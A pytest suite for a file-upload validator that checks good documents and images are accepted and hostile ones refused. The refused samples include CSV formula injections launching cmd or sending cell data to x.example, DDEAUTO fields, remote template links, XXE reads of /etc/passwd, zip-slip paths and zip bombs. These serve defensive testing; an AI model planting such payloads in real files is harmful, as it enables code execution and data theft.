"""What a file is and why it is refused, for good and bad files of every kind."""

import io
import random
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.assessments import file_checks
from portal.assessments.refusals import WORDS, Refused
from tests.portal.assessments import files
from tests.portal.assessments.files import SHEET, SLIDES, WORD, make_office, make_pdf, make_zip

MACRO = WORD.replace("openxmlformats-officedocument.wordprocessingml.document", "ms-word.document.macroEnabled")
TEMPLATE = WORD.replace("document.main", "template.main")
NOISE = random.Random(1).randbytes(200)  # cannot be packed any smaller, so it stands in an archive as it is
GOOD = {
    "report.pdf": make_pdf(),
    "REPORT.PDF": make_pdf(b"1 0 obj (about /Encryption) endobj\n"),
    "contract.docx": make_office(WORD),
    "list.xlsx": make_office(SHEET),
    "slides.pptx": make_office(SLIDES),
    "chart.docx": make_office(WORD, {"word/embeddings/chart.xlsx": make_office(SHEET)}),
    "photo.jpg": files.make_jpeg(4000, 3000),
    "photo.jpeg": files.make_jpeg() + b"a film behind it",
    "scan.png": files.make_png(),
    "phone.heic": files.make_heic(4032, 3024),
    "phone.heif": files.make_heic(brand=b"heix"),
    "list.csv": "Größe;Name\r\n1;Ünal\r\n".encode(),
    "list latin.csv": "Größe;Name\r\n1;Ünal\r\n".encode("cp1252"),
    "list excel.csv": "\ufeffa\tb\r\n".encode("utf-16-le"),
    "merkbilder 工場.txt": "\ufeff工場".encode(),
    "note.txt": b"One line",
    "phones.csv": b'name;phone;change\na;+84 90 123 45 67;-5,3\n@b;"=1+1";- yes | no!\n- please call (me)\n',
    "marked.pdf": files.pack_in_pdf(bytes(1_000_000), b"/Type /ObjStm " * 200),  # one stream, however often it is named
    "packed.pdf": files.pack_in_pdf(b"<< /Type /Page /Note (about JavaScript and #23) >>"),
}


def check(content: bytes, name: str) -> str:
    return file_checks.check_file(io.BytesIO(content), name).media_type


def judge(content: bytes, name: str) -> str:
    try:
        check(content, name)
    except Refused as refused:
        return refused.code
    return "GOOD"


@pytest.mark.parametrize("name", GOOD)
def test_good_files_are_taken(name: str) -> None:
    assert check(GOOD[name], name) == file_checks.MEDIA_TYPES[file_checks.check_name(name)]


BAD: list[tuple[str, str, bytes, str]] = [
    ("nothing", "a.pdf", b"", "EMPTY"),
    ("a program", "a.pdf", b"MZ\x90\0" + bytes(200), "TYPE_NOT_ALLOWED"),
    ("a program in its own name", "setup.exe", b"MZ\x90\0" + bytes(200), "TYPE_NOT_ALLOWED"),
    ("a gif", "a.png", b"GIF89a" + bytes(30), "TYPE_NOT_ALLOWED"),
    ("a web page as text", "a.txt", b"\n  <!DOCTYPE html><script>1</script>", "TYPE_NOT_ALLOWED"),
    ("a drawing as text", "a.txt", b"<svg onload='x'/>", "TYPE_NOT_ALLOWED"),
    ("a script as text", "a.txt", b"#!/bin/sh\n", "TYPE_NOT_ALLOWED"),
    ("bytes as a list", "a.csv", b"a,b\n\0\1\2", "TYPE_NOT_ALLOWED"),
    ("bytes as marked text", "a.txt", "\ufeffa\x07".encode("utf-16-le"), "TYPE_NOT_ALLOWED"),
    ("half a character", "a.txt", "\ufeffab".encode("utf-16-le")[:-1], "CORRUPT"),
    ("marked as UTF-8 and is not", "a.txt", b"\xef\xbb\xbf\xff\xfe", "CORRUPT"),
    ("pdf named docx", "a.docx", make_pdf(), "EXTENSION_MISMATCH"),
    ("pdf without an end to its name", "report", make_pdf(), "TYPE_NOT_ALLOWED"),
    ("xlsx named docx", "a.docx", make_office(SHEET), "EXTENSION_MISMATCH"),
    ("text named pdf", "a.pdf", b"I am a certificate", "EXTENSION_MISMATCH"),
    ("png named jpg", "a.jpg", files.make_png(), "EXTENSION_MISMATCH"),
    ("two ends", "a.pdf.exe", make_pdf(), "TYPE_NOT_ALLOWED"),
    ("pdf cut off", "a.pdf", make_pdf()[:-8], "CORRUPT"),
    ("pdf locked", "a.pdf", make_pdf(trailer=b"<< /Encrypt 5 0 R >>"), "ENCRYPTED"),
    ("pdf locked, spelled inside", "a.pdf", make_pdf(b"9 0 obj << /Encrypt<< /V 4 >> >>"), "ENCRYPTED"),
    ("pdf with a script", "a.pdf", make_pdf(b"2 0 obj << /S /JavaScript /JS (app.alert(1)) >>"), "ACTIVE_CONTENT"),
    ("pdf that starts a program", "a.pdf", make_pdf(b"2 0 obj << /S /Launch /F (cmd) >>"), "ACTIVE_CONTENT"),
    ("pdf with a script over a border", "a.pdf", make_pdf(bytes((1 << 20) - 55) + b"/JavaScript "), "ACTIVE_CONTENT"),
    ("old word", "a.doc", files.make_ole(), "OLD_FORMAT"),
    ("old word named docx", "a.docx", files.make_ole(), "OLD_FORMAT"),
    ("docx with a password", "a.docx", files.make_ole(locked=True), "ENCRYPTED"),
    ("docm", "a.docm", make_office(MACRO), "MACROS"),
    ("docm named docx", "a.docx", make_office(MACRO), "MACROS"),
    ("macros inside", "a.docx", make_office(WORD, {"word/vbaProject.bin": b"x"}), "MACROS"),
    ("macros under another case", "a.xlsx", make_office(SHEET, {"xl/VBAPROJECT.BIN": b"x"}), "MACROS"),
    ("macros under another name", "a.xlsx", make_office(
        SHEET, {"xl/a.bin": b"x"},
        '<Override PartName="/xl/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>'), "MACROS"),
    ("macros of 1992", "a.xlsx", make_office(SHEET, {"xl/macrosheets/sheet1.xml": b"<x/>"}), "MACROS"),
    ("macros in a spreadsheet inside", "a.docx", make_office(
        WORD, {"word/embeddings/x.xlsx": make_office(SHEET, {"xl/vbaProject.bin": b"x"})}), "MACROS"),
    ("a control", "a.docx", make_office(WORD, {"word/activeX/activeX1.bin": b"x"}), "ACTIVE_CONTENT"),
    ("a program inside", "a.docx", make_office(WORD, {"word/media/image1.png": b"MZ\x90"}), "EMBEDDED_FILES"),
    ("an object inside", "a.docx", make_office(WORD, {"word/embeddings/o.bin": files.make_ole()}), "EMBEDDED_FILES"),
    ("an archive inside", "a.docx", make_office(WORD, {"word/x.zip": make_zip({"a": b"a"})}), "EMBEDDED_FILES"),
    ("archives inside archives", "a.docx", make_office(WORD, {"word/x.xlsx": make_office(
        SHEET, {"xl/y.docx": make_office(WORD)})}), "ZIP_BOMB"),
    ("a plain archive", "a.docx", make_zip({"a.txt": b"a"}), "TYPE_NOT_ALLOWED"),
    ("a template", "a.docx", make_office(TEMPLATE), "TYPE_NOT_ALLOWED"),
    ("main part missing", "a.docx", make_zip({"[Content_Types].xml": (
        f'<Types><Override PartName="/x.xml" ContentType="{WORD}"/></Types>').encode()}), "CORRUPT"),
    ("content types broken", "a.docx", make_zip({"[Content_Types].xml": b"<Types"}), "CORRUPT"),
    ("content types with entities", "a.docx", make_office(
        WORD, head='<!DOCTYPE t [<!ENTITY a "aaaaaaaaaa">]>'), "CORRUPT"),
    ("content types endless", "a.docx", make_zip({"[Content_Types].xml": b" " * 1_100_000}), "ZIP_BOMB"),
    ("locked entries", "a.docx", files.make_locked_zip(), "ENCRYPTED"),
    ("docx cut off", "a.docx", make_office()[:-30], "CORRUPT"),
    ("docx damaged", "a.docx", make_office(WORD, {"word/x": NOISE}).replace(NOISE[:9], b"different"), "CORRUPT"),
    ("packed by nothing there is", "a.docx", files.spoil_lzma(make_office()), "CORRUPT"),
    ("one huge entry", "a.xlsx", make_office(SHEET, {"xl/a.xml": bytes(60_000_000)}), "ZIP_BOMB"),
    ("thousands of entries", "a.xlsx", make_zip({f"{n}": b"" for n in range(5_001)}), "ZIP_BOMB"),
    ("says thousands of entries", "a.xlsx", files.make_liar(60_000), "ZIP_BOMB"),
    ("the same bytes many times", "a.docx", files.make_overlapping(), "ZIP_BOMB"),
    ("png flood", "a.png", files.make_png(20_000, 20_000), "TOO_MANY_PIXELS"),
    ("png a line", "a.png", files.make_png(1, 40_000), "TOO_MANY_PIXELS"),
    ("png of nothing", "a.png", files.make_png(0, 8), "CORRUPT"),
    ("png cut off", "a.png", files.make_png(end=False), "CORRUPT"),
    ("png damaged", "a.png", files.make_png(good=False), "CORRUPT"),
    ("jpeg flood", "a.jpg", files.make_jpeg(60_000, 60_000), "TOO_MANY_PIXELS"),
    ("jpeg without frame", "a.jpg", files.make_jpeg(frame=False), "CORRUPT"),
    ("jpeg cut off", "a.jpg", files.make_jpeg(end=False), "CORRUPT"),
    ("heic flood", "a.heic", files.make_heic(50_000, 50_000), "TOO_MANY_PIXELS"),
    ("heic without size", "a.heic", files.make_heic(sized=False), "CORRUPT"),
    ("heic cut off", "a.heic", files.make_heic(cut=10), "CORRUPT"),
    ("pdf with a script, spelled with escapes", "a.pdf", make_pdf(b"<< /S /J#61v#61Script >>"), "ACTIVE_CONTENT"),
    ("pdf with a script in a packed object", "a.pdf", files.pack_in_pdf(b"<< /S /JavaScript /JS (x) >>"),
        "ACTIVE_CONTENT"),
    ("pdf with a film", "a.pdf", make_pdf(b"<< /Subtype /RichMedia >>"), "ACTIVE_CONTENT"),
    ("pdf with a file inside", "a.pdf", make_pdf(b"<< /Names << /EmbeddedFiles 4 0 R >> >>"), "EMBEDDED_FILES"),
    ("pdf with a file in a packed object", "a.pdf", files.pack_in_pdf(b"<< /Type /EmbeddedFile >>"), "EMBEDDED_FILES"),
    ("pdf with a bomb", "a.pdf", files.pack_in_pdf(bytes(30_000_000)), "ZIP_BOMB"),
    ("pdf with many small bombs", "a.pdf",
        make_pdf(files.pack_in_pdf(bytes(3_900_000)) * 20), "ZIP_BOMB"),
    ("pdf that is an archive too", "a.pdf", make_pdf(make_zip({"a.exe": b"MZ"})[:-22]) + make_zip({"a": b"MZ"}),
        "EMBEDDED_FILES"),
    ("picture that is an archive too", "a.jpg", files.make_jpeg() + make_zip({"x.class": b"x"}), "EMBEDDED_FILES"),
    ("png that is a document too", "a.png", files.make_png() + make_office(MACRO), "EMBEDDED_FILES"),
    ("list that is an archive too", "a.csv", b"a;b\n" + make_zip({"a": b"a"}), "EMBEDDED_FILES"),
    ("a web page as a picture", "a.jpg", b"<html><script>alert(1)</script></html>", "TYPE_NOT_ALLOWED"),
    ("a drawing as a picture", "a.png", b"<?xml version='1.0'?><svg><script>1</script></svg>", "TYPE_NOT_ALLOWED"),
    ("a drawing behind a comment", "a.txt", b"<!-- x --><svg onload='x'/>", "TYPE_NOT_ALLOWED"),
    ("a web page far behind", "a.txt", b" " * 9_000 + b"<html>", "TYPE_NOT_ALLOWED"),
    ("a web page in wide letters", "a.txt", "\ufeff<html><script>".encode("utf-16-le"), "TYPE_NOT_ALLOWED"),
    ("a page with its pictures", "a.txt", b"MIME-Version: 1.0\nContent-Type: multipart/related", "TYPE_NOT_ALLOWED"),
    ("a list that starts a program", "a.csv", b"name;x\na;=cmd|' /C calc'!A0\n", "ACTIVE_CONTENT"),
    ("a list that calls home", "a.csv", b'a,"=HYPERLINK(""http://x.example?""&A1,""x"")"\n', "ACTIVE_CONTENT"),
    ("a list that starts at once", "a.csv", b"@SUM(1+1)*cmd|' /C calc'!A0", "ACTIVE_CONTENT"),
    ("a list that fetches, in wide letters", "a.csv", "\ufeff+WEBSERVICE(A1)".encode("utf-16-le"), "ACTIVE_CONTENT"),
    ("a list that starts a program over a border", "a.csv",
        b"x," * ((1 << 19) - 5) + b",=cmd|' /C calc'!A0", "ACTIVE_CONTENT"),
    ("a template from elsewhere", "a.docx", make_office(WORD, {
        "word/_rels/settings.xml.rels": files.make_relations("attachedTemplate", "http://x.example/t.dotm")}),
        "ACTIVE_CONTENT"),
    ("an object from elsewhere", "a.docx", make_office(WORD, {
        "word/_rels/document.xml.rels": files.make_relations("oleObject", "http://x.example/x.html!")}),
        "ACTIVE_CONTENT"),
    ("a field that starts a program", "a.docx", make_office(WORD, {
        "word/footer1.xml": b"<w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe </w:instrText>"}), "ACTIVE_CONTENT"),
    ("a sheet that starts a program", "a.xlsx", make_office(SHEET, {
        "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}),
        "ACTIVE_CONTENT"),
    ("a part with entities", "a.docx", make_office(WORD, {
        "word/styles.xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'}),
        "CORRUPT"),
    ("a part with another file's text", "a.xlsx", make_office(SHEET, {
        "xl/styles.xml": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'}), "CORRUPT"),
    ("parts outside of the archive", "a.docx", make_office(WORD, {"../../../etc/cron.d/x": b"x"}), "CORRUPT"),
    ("parts outside, spelled the other way", "a.docx", make_office(WORD, {"..\\..\\x.xml": b"x"}), "CORRUPT"),
    ("parts at the root", "a.docx", make_office(WORD, {"/etc/passwd": b"x"}), "CORRUPT"),
    ("a program of the other kind inside", "a.pptx", make_office(SLIDES, {"ppt/media/a.bin": b"\x7fELF"}),
        "EMBEDDED_FILES"),
    ("a script inside", "a.docx", make_office(WORD, {"word/media/a.png": b"#!/bin/sh"}), "EMBEDDED_FILES"),
    ("png changed", "a.png", files.make_png_with_bad_data(), "CORRUPT"),
    ("png with a lie about its parts", "a.png", files.make_png()[:33] + b"\xff\xff\xff\xffIDAT", "CORRUPT"),
    ("a film", "a.heic", files.make_heic(brand=b"isom"), "TYPE_NOT_ALLOWED"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "content", "code"), [one[1:] for one in BAD], ids=[one[0] for one in BAD])
def test_bad_files_are_refused_with_the_reason(name: str, content: bytes, code: str) -> None:
    with pytest.raises(Refused) as refused:
        check(content, name)
    assert refused.value.code == code


def test_every_reason_that_the_content_alone_tells_has_a_case_and_words() -> None:
    assert {code for *_, code in BAD} | {"CHANGED", "VIRUS", "TOO_LARGE_TO_SCAN"} == set(WORDS)
    assert all(20 < len(words) < 140 for words in WORDS.values())


@given(st.binary(max_size=400), st.sampled_from(sorted(file_checks.MEDIA_TYPES)))
def test_any_bytes_are_taken_or_refused(content: bytes, extension: str) -> None:
    assert judge(content, f"a{extension}") in {*WORDS, "GOOD"}


@pytest.mark.parametrize("name", GOOD)
def test_any_damage_to_a_good_file_is_taken_or_refused(name: str) -> None:
    """Cut off anywhere, or with bytes changed, a file never makes the check fail in another way."""
    dice, content = random.Random(name), GOOD[name]
    for _ in range(150):
        damaged = bytearray(content[: dice.randrange(1, len(content) + 1)])
        for _ in range(dice.randrange(4)):
            damaged[dice.randrange(len(damaged))] = dice.randrange(256)
        assert judge(bytes(damaged), name) in {*WORDS, "GOOD"}


def test_a_stored_archive_is_as_good_as_a_packed_one() -> None:
    with zipfile.ZipFile(io.BytesIO(make_office(SHEET))) as packed:
        entries = {one: packed.read(one) for one in packed.namelist()}
    assert check(make_zip(entries, zipfile.ZIP_STORED), "a.xlsx") == file_checks.MEDIA_TYPES[".xlsx"]
